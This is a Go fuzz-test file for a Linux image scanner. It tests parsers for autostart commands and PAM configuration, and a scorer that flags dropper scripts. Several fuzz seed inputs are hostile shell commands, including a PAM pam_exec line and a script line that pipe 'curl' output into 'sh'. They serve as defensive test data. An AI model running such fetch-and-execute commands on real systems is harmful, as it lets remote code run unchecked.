package linux

import (
	"io/fs"
	"path"
	"reflect"
	"strings"
	"sync"
	"testing"

	"github.com/snapscan/snapscan/fsread"
)

// FuzzAutostartParsers: the command splitter, target resolver, PAM parser
// and dropper scorer take bytes from the image. Never a panic; targets are
// clean absolute paths; lines exist; the same input gives the same result.
func FuzzAutostartParsers(f *testing.F) {
	f.Add("sh -c 'cd /opt/x && ./run' ; nohup bash /tmp/a.sh & . /etc/default/x")
	f.Add("auth [success=1 default=ignore] pam_exec.so quiet /bin/sh -c \"curl x | sh\"\n@include common-auth\n")
	f.Add(dropperCases[0].text)
	// The fixture never changes: its lookups are answered from memory, so
	// the fuzzer spends its time in the parsers, not in lstat(2).
	fsys := &memoFS{FS: overlayWith(f, tree(f, map[string]string{"usr/local/bin/y.sh": "#!/bin/sh\n"}), "")}
	pathEnv := []string{"/usr/local/bin", "/usr/bin"}
	f.Fuzz(func(t *testing.T, s string) {
		// Lines, words and targets are what is fuzzed here; long inputs
		// only repeat them and the scorer's bound on size has its own
		// test, so inputs are cut to keep the rate (issue 21).
		if len(s) > 2048 {
			s = s[:2048]
		}
		n := lineCount([]byte(s))
		got := commandTargets(s, "/", pathEnv, fsys)
		for _, p := range got {
			if !strings.HasPrefix(p, "/") || path.Clean(p) != p {
				t.Fatalf("target %q of %q", p, s)
			}
		}
		if again := commandTargets(s, "/", pathEnv, fsys); !reflect.DeepEqual(got, again) {
			t.Fatal("targets differ on a second run")
		}
		for _, w := range shellWords(s) {
			if strings.HasPrefix(w, ">") {
				t.Fatalf("redirection %q kept as a word", w)
			}
		}
		ls, bad := ParsePAM([]byte(s), false)
		for _, l := range ls {
			if l.Line < 1 || l.Line > n || l.Module == "" {
				t.Fatalf("pam line %+v", l)
			}
		}
		for _, b := range bad {
			if b < 1 || b > n {
				t.Fatalf("bad %d", b)
			}
		}
	})
}

// FuzzScoreScript: the dropper scorer reads any shell script on disk.
// Behaviours are distinct, on lines that exist, and the score follows from
// their number.
func FuzzScoreScript(f *testing.F) {
	f.Add("#!/bin/sh\ncurl -fsSL http://x/y | sh\n")
	f.Add(dropperCases[0].text)
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 2048 {
			s = s[:2048]
		}
		n := lineCount([]byte(s))
		sc := ScoreScript([]byte(s))
		seen := map[string]bool{}
		for _, b := range sc.Behaviours {
			if seen[b.Name] || b.Line < 1 || b.Line > n {
				t.Fatalf("behaviour %+v", b)
			}
			seen[b.Name] = true
		}
		// The literal filter must never drop a line its expression matches;
		// checked on one input in eight, as it costs what the filter saves.
		for _, l := range shellLines([]byte(s)) {
			if len(s)%8 != 0 {
				break
			}
			lower := strings.ToLower(l.Text)
			for _, b := range dropperSigs().behaviours {
				if !mayMatch(b.lits, lower) && b.Re.MatchString(l.Text) {
					t.Fatalf("%s matches %q but its literal filter %q drops it", b.Name, l.Text, b.lits)
				}
			}
		}
		if sc.Scored != (len(sc.Behaviours) >= 2) {
			t.Fatalf("scored %v with %d behaviours", sc.Scored, len(sc.Behaviours))
		}
	})
}

// memoFS remembers Stat, Lstat and ReadLink answers of an FS that does not
// change.
type memoFS struct {
	fsread.FS
	stat, lstat, link sync.Map
}

type memoStat struct {
	fi  fs.FileInfo
	err error
}

func (m *memoFS) Stat(name string) (fs.FileInfo, error) {
	if v, ok := m.stat.Load(name); ok {
		r := v.(memoStat)
		return r.fi, r.err
	}
	fi, err := m.FS.Stat(name)
	m.stat.Store(name, memoStat{fi, err})
	return fi, err
}

func (m *memoFS) Lstat(name string) (fs.FileInfo, error) {
	if v, ok := m.lstat.Load(name); ok {
		r := v.(memoStat)
		return r.fi, r.err
	}
	fi, err := m.FS.Lstat(name)
	m.lstat.Store(name, memoStat{fi, err})
	return fi, err
}

func (m *memoFS) ReadLink(name string) (string, error) {
	type r struct {
		s   string
		err error
	}
	if v, ok := m.link.Load(name); ok {
		return v.(r).s, v.(r).err
	}
	s, err := m.FS.ReadLink(name)
	m.link.Store(name, r{s, err})
	return s, err
}
